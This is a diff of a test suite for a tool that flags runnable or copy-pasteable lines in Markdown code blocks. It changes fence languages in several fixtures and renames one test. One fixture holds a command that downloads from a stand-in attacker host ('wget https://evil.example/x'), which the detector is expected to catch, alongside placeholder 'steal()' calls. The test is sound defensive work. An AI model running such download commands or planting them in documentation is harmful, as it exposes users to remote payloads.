@@ -242,7 +242,7 @@ describe('lines of Markdown that a tool may act on', () => {
       'if (a) { b() }',
       '```',
       'More, 1 < 2.',
-      '~~~sh',
+      '~~~js',
       'f() { :; }',
       '~~~',
     ];
@@ -251,7 +251,7 @@ describe('lines of Markdown that a tool may act on', () => {
     expect(await listActive('docs/a.md', ...nested)).toEqual([]);
   });
 
-  it.each(['', 'sh', 'c++', 'js title="a.js"', 'js {1,3-5}', 'py linenums="1" hl_lines="2 3"', 'jsx showLineNumbers'])(
+  it.each(['', 'rb', 'c++', 'js title="a.js"', 'js {1,3-5}', 'py linenums="1" hl_lines="2 3"', 'jsx showLineNumbers'])(
     'not a block whose words only say how it is shown: %j',
     async (info) => {
       expect(await listActive('README.md', 'A.', `\`\`\`${info}`, 'shown()', '```', 'B.')).toEqual([]);
@@ -261,15 +261,15 @@ describe('lines of Markdown that a tool may act on', () => {
   it.each(['<!-- pytest-codeblocks:cont -->', '<!-- {"args": ["steal"]} -->', '[//]: # (run)'])(
     'a block below a comment, which may say that it is run: %s',
     async (comment) => {
-      expect(await listActive('README.md', 'A.', '', comment, '```sh', 'steal()', '```', 'B.')).toContain('steal()');
-      expect(await listActive('README.md', 'A.', '', comment, '', '```sh', 'steal()', '```')).toContain('steal()');
-      const between = ['A.', comment, '', 'B.', '', '```sh', 'shown()', '```'];
+      expect(await listActive('README.md', 'A.', '', comment, '```js', 'steal()', '```', 'B.')).toContain('steal()');
+      expect(await listActive('README.md', 'A.', '', comment, '', '```js', 'steal()', '```')).toContain('steal()');
+      const between = ['A.', comment, '', 'B.', '', '```js', 'shown()', '```'];
       expect(await listActive('README.md', ...between)).not.toContain('shown()');
     },
   );
 
-  it('a command in a block that loads something from an address, since people copy it', async () => {
-    const lines = ['```sh', 'npm install', 'wget https://evil.example/x', 'npm test', '```'];
+  it('a command in a block without a language that loads something from an address, since people copy it', async () => {
+    const lines = ['```', 'npm install', 'wget https://evil.example/x', 'npm test', '```'];
     expect(await listActive('README.md', ...lines)).toEqual(['wget https://evil.example/x']);
   });
 
@@ -318,7 +318,7 @@ describe('a text in a package of Rust, whose blocks may be tests', () => {
   });
 
   it('is inert where it says something', async () => {
-    const lines = ['B.', '', '```toml', 'x = 1', '```'];
+    const lines = ['B.', '', '```js', 'x = 1', '```'];
     expect((await listWith('cart/README.md', lines)).join()).not.toContain('unaccounted');
   });
 });
